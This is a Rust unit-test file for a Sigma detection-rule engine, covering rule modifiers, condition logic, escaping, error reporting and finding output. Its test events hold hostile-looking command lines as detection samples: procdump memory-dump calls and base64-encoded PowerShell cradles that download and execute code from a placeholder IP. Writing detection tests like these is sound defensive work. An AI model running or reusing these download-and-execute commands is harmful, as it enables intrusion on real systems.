//! Unit tests of the engine over hand-built batches: every modifier, the
//! condition forms, and the Sigma edge cases of `shared/edge-cases.md`.

use arrow_array::RecordBatch;
use vigil_schemas::{BatchBuilder, Class, Field};

use super::*;

/// Mappings that place every rule on base events, with no conditions.
fn any_mapping() -> Mappings {
    let mut m = Mappings::default();
    m.add_yaml(
        "test",
        "logsources:\n  - logsource: {}\n    classes: [base_event]\n",
    )
    .expect("valid mapping");
    m
}

/// A rule document around a detection block (indented by 4).
fn rule(detection: &str) -> String {
    format!(
        "title: t\nid: r-1\nlogsource: {{product: test}}\nlevel: high\n\
         tags: [attack.credential_access, attack.t1110.003]\ndetection:\n{detection}"
    )
}

fn engine(yaml: &str) -> SigmaEngine {
    let (e, report) = SigmaEngine::from_yaml("test.yml", yaml, &any_mapping());
    assert!(report.failed.is_empty(), "{report}");
    assert_eq!(e.len(), 1, "{report}");
    e
}

/// A base-event batch: each event is a list of `unmapped` fields.
fn batch(events: &[&[(&str, &str)]]) -> RecordBatch {
    let mut b = BatchBuilder::new(Class::BaseEvent);
    for (i, ev) in events.iter().enumerate() {
        let mut r = b.row();
        r.str(Field::EventUid, &format!("e{}", i + 1));
        for (k, v) in *ev {
            r.unmapped(k, v);
        }
    }
    b.finish()
}

/// 1-based numbers of the events the (single) rule matches.
fn hits(e: &SigmaEngine, b: &RecordBatch) -> Vec<usize> {
    let m = e.matches(Class::BaseEvent, b);
    m.into_iter()
        .flat_map(|(_, rows)| rows)
        .map(|r| r + 1)
        .collect()
}

fn check(detection: &str, events: &[&[(&str, &str)]]) -> Vec<usize> {
    hits(&engine(&rule(detection)), &batch(events))
}

#[test]
fn bh12_windash_all_five_dashes() {
    let cmd = |s: &'static str| -> Vec<(&'static str, &'static str)> { vec![("CommandLine", s)] };
    let evs = [
        cmd("procdump.exe -ma 4242 out.dmp"),
        cmd("procdump.exe /ma 4242 out.dmp"),
        cmd("procdump.exe \u{2013}ma 4242 out.dmp"),
        cmd("procdump.exe \u{2014}ma 4242 out.dmp"),
        cmd("procdump.exe \u{2015}ma 4242 out.dmp"),
        cmd("procdump.exe +ma 4242 out.dmp"),
        cmd("tool.exe /ex/policy"),
        cmd("tool.exe /ex-policy"),
    ];
    let evs: Vec<&[(&str, &str)]> = evs.iter().map(Vec::as_slice).collect();
    let r1 =
        "    selection:\n        CommandLine|contains|windash: ' -ma '\n    condition: selection\n";
    assert_eq!(check(r1, &evs), vec![1, 2, 3, 4, 5]);
    let r2 = "    selection:\n        CommandLine|contains|windash: ' -ex-policy'\n    condition: selection\n";
    assert_eq!(check(r2, &evs), vec![8]);
}

#[test]
fn bh14_null_is_absent_and_empty_is_present() {
    let img = ("Image", r"C:\Windows\System32\svchost.exe");
    // Event 2 of BH-14 has a JSON null, which decoders leave out of
    // `unmapped`, so it is written here as an absent field.
    let evs: [&[(&str, &str)]; 4] = [
        &[img],
        &[img],
        &[img, ("CommandLine", "")],
        &[img, ("CommandLine", "svchost.exe -k netsvcs")],
    ];
    let n = "    selection: {Image|endswith: '\\svchost.exe'}\n    filter_null: {CommandLine: null}\n    condition: selection and filter_null\n";
    assert_eq!(check(n, &evs), vec![1, 2]);
    let e = "    selection: {Image|endswith: '\\svchost.exe'}\n    filter_empty: {CommandLine: ''}\n    condition: selection and filter_empty\n";
    assert_eq!(check(e, &evs), vec![3]);
}

#[test]
fn bh15_escapes() {
    let share: [&[(&str, &str)]; 2] = [
        &[("ShareName", r"\\*\IPC$")],
        &[("ShareName", r"\\host-a\IPC$")],
    ];
    let a = "    selection: {ShareName: '\\\\\\\\\\*\\IPC$'}\n    condition: selection\n";
    assert_eq!(check(a, &share), vec![1]);
    let b = "    selection: {ShareName: '\\\\\\\\*\\IPC$'}\n    condition: selection\n";
    assert_eq!(check(b, &share), vec![1, 2]);
    let img: [&[(&str, &str)]; 1] = [&[("Image", r"C:\Users\alice\Desktop\tool.exe")]];
    let c = "    selection: {Image|contains: '\\Desktop\\'}\n    condition: selection\n";
    assert_eq!(check(c, &img), vec![1]);
    let cmd: [&[(&str, &str)]; 2] = [
        &[("CommandLine", "echo whats")],
        &[("CommandLine", "echo what?")],
    ];
    let d = "    selection: {CommandLine|endswith: 'what?'}\n    condition: selection\n";
    assert_eq!(check(d, &cmd), vec![1, 2]);
    let e = "    selection: {CommandLine|endswith: 'what\\?'}\n    condition: selection\n";
    assert_eq!(check(e, &cmd), vec![2]);
}

#[test]
fn bh17_one_of_keeps_and_inside_each_selection() {
    let sc = ("Image", r"C:\Windows\System32\sc.exe");
    let svc = (
        "TargetObject",
        r"HKLM\System\CurrentControlSet\Services\svc-a\ImagePath",
    );
    let evs: [&[(&str, &str)]; 5] = [
        &[sc, ("CommandLine", "sc.exe query type= service")],
        &[
            sc,
            (
                "CommandLine",
                r"sc.exe create svc-a binPath= C:\ProgramData\a.exe",
            ),
        ],
        &[
            sc,
            (
                "CommandLine",
                r"sc.exe create svc-a binPath= C:\Users\Public\a.exe",
            ),
        ],
        &[svc, ("Details", r"C:\Windows\a.exe")],
        &[svc, ("Details", r"C:\Windows\Temp\a.exe")],
    ];
    let d = r"    selection_svc:
        Image|endswith: '\sc.exe'
        CommandLine|contains|all:
            - ' create '
            - '\Users\Public\'
    selection_reg:
        TargetObject|contains: '\Services\'
        Details|contains: '\Temp\'
    condition: 1 of selection_*
";
    assert_eq!(check(d, &evs), vec![3, 5]);
}

#[test]
fn bh19_base64offset_and_wide() {
    let cl = |s: &'static str| vec![("CommandLine", s)];
    let evs = [
        cl(
            r#"sh -c "echo SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTkyLjAuMi4xMC9hJyk= | base64 -d""#,
        ),
        cl(
            r#"sh -c "echo YUlFWCAoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZFN0cmluZygnaHR0cDovLzE5Mi4wLjIuMTAvYScp | base64 -d""#,
        ),
        cl(
            r#"sh -c "echo YWJJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xOTIuMC4yLjEwL2EnKQ== | base64 -d""#,
        ),
        cl(
            "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ),
        cl(
            "powershell.exe -enc JAB4AD0AMQA7AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
        ),
        cl(r#"sh -c "echo YUlFWCAoT2xkLU9iamVjdA== | base64 -d""#),
    ];
    let evs: Vec<&[(&str, &str)]> = evs.iter().map(Vec::as_slice).collect();
    let d = "    sel_plain: {CommandLine|base64offset|contains: 'IEX (New'}\n    sel_wide: {CommandLine|wide|base64offset|contains: 'IEX (New'}\n    condition: 1 of sel_*\n";
    assert_eq!(check(d, &evs), vec![1, 2, 3, 4, 5]);
}

#[test]
fn bh09_service_channel_and_event_id_text() {
    let mut b = BatchBuilder::new(Class::BaseEvent);
    for (i, (provider, id, channel)) in [
        ("Service Control Manager", "7045", "System"),
        ("Microsoft-Windows-DNSServer", "1500", "DNS Server"),
        ("Microsoft-Windows-DNSServer", "150", "DNS Server"),
        (
            "Microsoft-Windows-Wcmsvc",
            "1116",
            "Microsoft-Windows-Wcmsvc/Operational",
        ),
        (
            "Windows Defender",
            "1116",
            "Microsoft-Windows-Windows Defender/Operational",
        ),
    ]
    .iter()
    .enumerate()
    {
        let mut r = b.row();
        r.str(Field::EventUid, &format!("e{}", i + 1));
        r.str(Field::MetadataProductName, "Windows");
        r.unmapped("Provider_Name", provider)
            .unmapped("EventID", id);
        r.unmapped("Channel", channel);
    }
    let batch = b.finish();
    let m = Mappings::builtin().expect("builtin");
    let one = |ls: &str, det: &str| {
        let y = format!("title: t\nid: x\nlogsource: {ls}\ndetection:\n{det}");
        let (e, rep) = SigmaEngine::from_yaml("r.yml", &y, &m);
        assert_eq!(rep.loaded, 1, "{rep}");
        hits(&e, &batch)
    };
    let r1 = "    selection:\n        Provider_Name: 'Service Control Manager'\n        EventID: 7045\n    condition: selection\n";
    assert_eq!(one("{product: windows, service: system}", r1), vec![1]);
    let r2 = "    selection:\n        EventID: [150, 770, 771]\n    condition: selection\n";
    assert_eq!(one("{product: windows, service: dns-server}", r2), vec![3]);
    let r3 = "    selection:\n        EventID: 1116\n    condition: selection\n";
    assert_eq!(one("{product: windows, service: windefend}", r3), vec![5]);
}

#[test]
fn string_modifiers_and_case() {
    let evs: [&[(&str, &str)]; 3] = [
        &[("Image", r"C:\Windows\System32\CMD.EXE")],
        &[("Image", r"D:\tools\cmd.exe.bak")],
        &[("Other", "x")],
    ];
    let t = |d: &str| {
        check(
            &format!("    sel:\n        {d}\n    condition: sel\n"),
            &evs,
        )
    };
    assert_eq!(t("Image|endswith: '\\cmd.exe'"), vec![1]);
    assert_eq!(t("Image|startswith: 'c:\\windows'"), vec![1]);
    assert_eq!(t("Image|contains: 'CMD.exe'"), vec![1, 2]);
    assert_eq!(t("Image|contains|cased: 'CMD.EXE'"), vec![1]);
    assert_eq!(
        t("Image|cased: 'c:\\windows\\system32\\cmd.exe'"),
        Vec::<usize>::new()
    );
    assert_eq!(t("Image: 'c:\\windows\\system32\\cmd.exe'"), vec![1]);
    assert_eq!(t("Image: '*\\cmd.exe*'"), vec![1, 2]);
    assert_eq!(t("Image: 'D:\\tools\\cmd.ex?.bak'"), vec![2]);
    assert_eq!(t("Image|contains|all: ['tools', 'bak']"), vec![2]);
    assert_eq!(t("Image|contains: ['tools', 'system32']"), vec![1, 2]);
    assert_eq!(t("Image|exists: true"), vec![1, 2]);
    assert_eq!(t("Image|exists: false"), vec![3]);
    assert_eq!(t("Image|neq: 'D:\\tools\\cmd.exe.bak'"), vec![1, 3]);
}

#[test]
fn regex_flags() {
    let evs: [&[(&str, &str)]; 2] = [
        &[("CommandLine", "curl -H x")],
        &[("CommandLine", "CURL -h\nX")],
    ];
    let t = |d: &str| {
        check(
            &format!("    sel:\n        {d}\n    condition: sel\n"),
            &evs,
        )
    };
    assert_eq!(t(r"CommandLine|re: '\s-H\s'"), vec![1]);
    assert_eq!(t(r"CommandLine|re|i: '\s-H\s'"), vec![1, 2]);
    assert_eq!(t(r"CommandLine|re: '^X$'"), Vec::<usize>::new());
    assert_eq!(t(r"CommandLine|re|m: '^X$'"), vec![2]);
    assert_eq!(t(r"CommandLine|re|i: 'h.x'"), vec![1]);
    assert_eq!(t(r"CommandLine|re|i|s: 'h.x'"), vec![1, 2]);
}

#[test]
fn cidr_and_numeric_comparisons() {
    let evs: [&[(&str, &str)]; 4] = [
        &[("IpAddress", "10.1.2.3"), ("Count", "5")],
        &[("IpAddress", "::ffff:192.168.1.9"), ("Count", "10")],
        &[("IpAddress", "fe80::1"), ("Count", "x")],
        &[("IpAddress", "-"), ("Count", "10.5")],
    ];
    let t = |d: &str| {
        check(
            &format!("    sel:\n        {d}\n    condition: sel\n"),
            &evs,
        )
    };
    assert_eq!(
        t("IpAddress|cidr: ['10.0.0.0/8', '192.168.0.0/16']"),
        vec![1, 2]
    );
    assert_eq!(t("IpAddress|cidr: 'fe80::/10'"), vec![3]);
    assert_eq!(t("Count|lt: 10"), vec![1]);
    assert_eq!(t("Count|lte: 10"), vec![1, 2]);
    assert_eq!(t("Count|gt: 10"), vec![4]);
    assert_eq!(t("Count|gte: 10"), vec![2, 4]);
}

#[test]
fn encodings_base64_and_utf16() {
    // "whoami" in base64 is d2hvYW1p; as UTF-16LE it is dwBoAG8AYQBtAGkA,
    // as UTF-16BE AHcAaABvAGEAbQBp (worked out with `base64` and `iconv`).
    let evs: [&[(&str, &str)]; 3] = [
        &[("CommandLine", "x d2hvYW1p y")],
        &[("CommandLine", "-enc dwBoAG8AYQBtAGkA")],
        &[("CommandLine", "-enc AHcAaABvAGEAbQBp")],
    ];
    let t = |d: &str| {
        check(
            &format!("    sel:\n        {d}\n    condition: sel\n"),
            &evs,
        )
    };
    assert_eq!(t("CommandLine|base64|contains: whoami"), vec![1]);
    assert_eq!(t("CommandLine|wide|base64|contains: whoami"), vec![2]);
    assert_eq!(t("CommandLine|utf16le|base64|contains: whoami"), vec![2]);
    assert_eq!(t("CommandLine|utf16be|base64|contains: whoami"), vec![3]);
}

#[test]
fn fieldref_and_expand() {
    let evs: [&[(&str, &str)]; 2] = [
        &[
            ("User", "ALICE"),
            ("Target", "alice"),
            ("Path", r"C:\Users\alice\x"),
        ],
        &[("User", "bob"), ("Target", "alice"), ("Path", r"C:\Temp\x")],
    ];
    let t = |d: &str| {
        check(
            &format!("    sel:\n        {d}\n    condition: sel\n"),
            &evs,
        )
    };
    assert_eq!(t("User|fieldref: Target"), vec![1]);
    let mut m = any_mapping();
    m.add_yaml(
        "ph",
        "placeholders: {dirs: ['C:\\Users*', 'D:\\x']}\nlogsources: []\n",
    )
    .expect("valid");
    let y = rule("    sel:\n        Path|expand: '%dirs%'\n    condition: sel\n");
    let (e, rep) = SigmaEngine::from_yaml("r.yml", &y, &m);
    assert!(rep.failed.is_empty(), "{rep}");
    assert_eq!(hits(&e, &batch(&evs)), vec![1]);
    let (_, rep) = SigmaEngine::from_yaml("r.yml", &y, &any_mapping());
    assert_eq!(rep.failed.len(), 1);
    assert_eq!(rep.failed[0].feature, "modifier expand");
}

#[test]
fn conditions_and_or_not_of_them() {
    let evs: [&[(&str, &str)]; 4] = [
        &[("A", "1"), ("B", "1")],
        &[("A", "1")],
        &[("B", "1")],
        &[("C", "1")],
    ];
    let base = "    sel_a: {A: 1}\n    sel_b: {B: 1}\n    _hidden: {C: 1}\n";
    let t = |c: &str| check(&format!("{base}    condition: {c}\n"), &evs);
    assert_eq!(t("sel_a and sel_b"), vec![1]);
    assert_eq!(t("sel_a or sel_b"), vec![1, 2, 3]);
    assert_eq!(t("sel_a and not sel_b"), vec![2]);
    assert_eq!(t("not (sel_a or sel_b)"), vec![4]);
    assert_eq!(t("all of sel_*"), vec![1]);
    assert_eq!(t("1 of sel_*"), vec![1, 2, 3]);
    assert_eq!(t("all of them"), vec![1]);
    assert_eq!(t("1 of them"), vec![1, 2, 3]);
    assert_eq!(t("2 of them"), vec![1]);
    assert_eq!(t("sel_a and (sel_b or _hidden)"), vec![1]);
}

#[test]
fn keywords_search_the_record() {
    let mut b = BatchBuilder::new(Class::BaseEvent);
    for (i, msg) in ["sshd: error: Bad Protocol version", "all good"]
        .iter()
        .enumerate()
    {
        let mut r = b.row();
        r.str(Field::EventUid, &format!("e{}", i + 1))
            .str(Field::Message, msg);
    }
    let e = engine(&rule(
        "    keywords:\n        - 'bad protocol'\n        - 'nope'\n    condition: keywords\n",
    ));
    assert_eq!(hits(&e, &b.finish()), vec![1]);
}

#[test]
fn malformed_rules_are_reported_not_panics() {
    let big = format!("'{}'", "a".repeat(1 << 20));
    let cases = [
        ("title: t\ndetection: [\n", "yaml"),
        (
            &*rule("    sel: {A|nosuch: 1}\n    condition: sel\n"),
            "modifier nosuch",
        ),
        (
            &*rule("    sel: {A|re: '(unclosed'}\n    condition: sel\n"),
            "regex",
        ),
        (
            &*rule("    sel: {A: 1}\n    condition: sel and missing\n"),
            "condition",
        ),
        (
            &*rule("    sel: {A: 1}\n    condition: 1 of nothing_*\n"),
            "condition",
        ),
        (
            &*rule(&format!("    sel: {{A|re: {big}}}\n    condition: sel\n")),
            "regex",
        ),
        (
            &*rule("    sel: {A|re: '(?<=x)y'}\n    condition: sel\n"),
            "regex lookaround/backreference",
        ),
        (
            &*rule("    sel: {A|hour: 3}\n    condition: sel\n"),
            "modifier hour",
        ),
    ];
    for (yaml, feature) in cases {
        let (e, rep) = SigmaEngine::from_yaml("bad.yml", yaml, &any_mapping());
        assert_eq!(e.len(), 0, "{feature}");
        assert_eq!(rep.failed.len(), 1, "{feature}: {rep}");
        assert_eq!(rep.failed[0].feature, feature, "{rep}");
        assert_eq!(rep.failed[0].file, std::path::Path::new("bad.yml"));
    }
    let (_, rep) = SigmaEngine::from_yaml(
        "bad.yml",
        &rule("    sel: {A: 1}\n    condition: nope\n"),
        &any_mapping(),
    );
    assert_eq!(rep.failed[0].rule_id.as_deref(), Some("r-1"));
}

#[test]
fn findings_carry_rule_entity_and_evidence() {
    let e = engine(&rule("    sel: {A: 1}\n    condition: sel\n"));
    let mut b = BatchBuilder::new(Class::BaseEvent);
    {
        let mut r = b.row();
        r.str(Field::EventUid, "ev-9")
            .str(Field::UserName, "CORP\\Alice");
        r.unmapped("A", "1");
    }
    let mut e = e;
    let out = e.detect(Class::BaseEvent, &b.finish()).expect("detect");
    assert_eq!(out.len(), 1);
    let (class, f) = &out[0];
    assert_eq!(*class, Class::DetectionFinding);
    assert_eq!(f.num_rows(), 1);
    let s = |name: &str| {
        use arrow::array::AsArray;
        f.column_by_name(name)
            .expect(name)
            .as_string::<i32>()
            .value(0)
            .to_string()
    };
    assert_eq!(s("finding_info_uid"), finding::finding_uid("r-1", "ev-9"));
    assert_eq!(s("finding_info_analytic_uid"), "r-1");
    assert_eq!(s("finding_info_attack_technique_uids"), "T1110.003");
    assert_eq!(s("entity_type"), "user");
    assert_eq!(s("entity_id"), "corp\\alice");
    assert_eq!(s("evidences_event_uids"), "ev-9");
    assert_eq!(s("severity"), "High");
}

#[test]
fn literal_groups_give_the_same_answers_as_direct_tests() {
    // Five or more literals on one field go through one Aho-Corasick scan;
    // each kind (equal, prefix, suffix, substring) must still anchor.
    let d = r"    sel_eq: {Image: 'c:\a\cmd.exe'}
    sel_pre: {Image|startswith: ['c:\b\', 'c:\z\']}
    sel_suf: {Image|endswith: ['\ps.exe', '\x.exe']}
    sel_con: {Image|contains: ['\tmp\', '\q\']}
    condition: 1 of sel_*
";
    let e = engine(&rule(d));
    assert_eq!(e.groups.len(), 1, "the seven literals form one group");
    let evs: [&[(&str, &str)]; 7] = [
        &[("Image", r"C:\A\cmd.exe")],
        &[("Image", r"C:\A\cmd.exe.bak")],
        &[("Image", r"C:\b\tool.exe")],
        &[("Image", r"D:\c:\b\tool.exe")],
        &[("Image", r"D:\PS.EXE")],
        &[("Image", r"D:\ps.exe\y")],
        &[("Image", r"D:\x\TMP\y")],
    ];
    assert_eq!(hits(&e, &batch(&evs)), vec![1, 3, 5, 7]);
}
